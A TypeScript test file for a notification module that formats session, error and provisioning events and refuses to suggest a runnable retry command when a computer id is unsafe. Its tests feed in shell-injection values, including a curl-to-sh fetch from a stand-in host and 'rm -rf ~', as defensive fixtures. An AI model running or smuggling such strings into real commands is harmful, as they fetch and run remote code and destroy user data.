// Watch facts as notifications: a finished turn shows its last answer and token use, an error
// turn is a failure, a burst of control revisions is one notice that counts them, and a failed
// provisioning step shows what its install session said.
import { describe, expect, it } from "vitest";
import { defaultConfig } from "../../../src/config/default-config.js";
import { noticeOf, retryCommand } from "../../../src/service/watch/notices.js";
import { validateConfig } from "../../../src/config/validate-config.js";

const meta = { id: "n1", now: Date.parse("2026-11-25T09:00:00Z"), project: "svc.example" };
const config = defaultConfig().value;
const usage = { inputTokens: 12_400, outputTokens: 3_100, serviceCredits: 410 };

describe("noticeOf", () => {
  it("a finished turn: title, last answer (one line, inert), tokens; level done", () => {
    const n = noticeOf(
      {
        kind: "SessionIdle",
        sessionId: "sess-1",
        title: "Ship the release",
        from: "idle",
        messageCount: 14,
        lastMessage: "Released \u001b[31m1.2.0\nand tagged it.",
        tokenUsage: usage,
      },
      config,
      meta,
    );
    expect(n.title).toBe("svc.example · Session done: Ship the release");
    expect(n.body).toBe(
      'Ship the release is idle after 14 messages.\nLast: Released 1.2.0 and tagged it.\nTokens: 12.4k in, 3.1k out, 410 credits\nAnswer it: hook-notify sessions send sess-1 -- "…"',
    );
    expect([n.level, n.failure, n.lastMessage, n.tokenUsage]).toEqual([
      "done",
      false,
      "Released \u001b[31m1.2.0\nand tagged it.",
      usage,
    ]);
  });

  it("an idle session whose last message is an error is a failure", () => {
    const n = noticeOf(
      {
        kind: "SessionIdle",
        sessionId: "sess-2",
        from: "running",
        failure: true,
        lastMessage: "quota",
      },
      config,
      meta,
    );
    expect([n.level, n.failure]).toEqual(["failure", true]);
    expect(n.title).toBe("svc.example · Session failed: session sess-2");
    expect(n.body).toContain("idle after ? messages, on an error.\nLast: quota\nAnswer it:");
  });

  it("a burst of revisions is one notice that says how many", () => {
    const fact = {
      kind: "ControlsChanged" as const,
      revision: 140,
      count: 30,
      more: true,
      user: "Ada, Bob",
      updatedAt: "2026-11-25T08:00:00Z",
      changes: [{ path: "a", kind: "changed" as const, line: "a: 1 → 2" }],
    };
    expect(noticeOf(fact, config, meta).title).toBe(
      "svc.example · Enterprise controls changed (30+ revisions, up to 140)",
    );
    expect(noticeOf({ ...fact, count: 1, more: false }, config, meta).title).toContain(
      "(revision 140)",
    );
  });

  it("offers no runnable command for an id that is not plain; quotes a session id", () => {
    const computerId = "c1; rm -rf ~ $(id) 'x'";
    const n = noticeOf(
      { kind: "ComputerError", computerId, name: "box", status: "error", failedSteps: [] },
      config,
      meta,
    );
    expect(n.body).not.toContain(`retry ${computerId}`);
    expect(n.body).toContain("hook-notify computers retry <id> (this computer's id is not plain");
    const idle = noticeOf({ kind: "SessionIdle", sessionId: "s 1", from: "idle" }, config, meta);
    expect(idle.body).toContain(`hook-notify sessions send 's 1' -- "…"`);
  });

  it("a failed step shows what its install session said", () => {
    const n = noticeOf(
      {
        kind: "ComputerError",
        computerId: "comp-1",
        name: "box",
        status: "error",
        failedSteps: [{ name: "install-deps", error: "npm ci exited 1", installSessionId: "s-9" }],
        installMessages: ["Running npm ci", "npm ERR! missing lockfile"],
      },
      config,
      meta,
    );
    expect(n.body).toBe(
      "Provisioning step install-deps failed: npm ci exited 1\nThe install session said:\n- Running npm ci\n- npm ERR! missing lockfile\nRetry the dependencies step: hook-notify computers retry comp-1",
    );
  });
});

const plainConfig = validateConfig({}, {}).value;

function errorNotice(computerId: string) {
  return noticeOf(
    { kind: "ComputerError", computerId, name: "dev box", failedSteps: [{ name: "deps" }] },
    plainConfig,
    { id: "n1", now: 0, project: "service.example" },
  );
}

describe("the suggested retry command", () => {
  it("names a plain id as is", () => {
    expect(errorNotice("comp-123_a.b").body).toContain(
      "Retry the dependencies step: hook-notify computers retry comp-123_a.b",
    );
  });

  // Issue 25: `hook-notify computers retry c1; curl … | sh #` reached Slack.
  it.each([
    "c1; curl -s http://x.example/p | sh #",
    "c1 && rm -rf ~",
    "$(touch /tmp/x)",
    "`id`",
    "c1\nrm -rf ~",
    "-rf",
    "c1'\"",
  ])("shows no runnable command for the id %j", (id) => {
    const body = errorNotice(id).body;
    expect(body).not.toContain(`retry ${id}`);
    expect(body).toContain(
      "hook-notify computers retry <id> (this computer's id is not plain text",
    );
    expect(retryCommand(id)).not.toContain(id);
  });
});
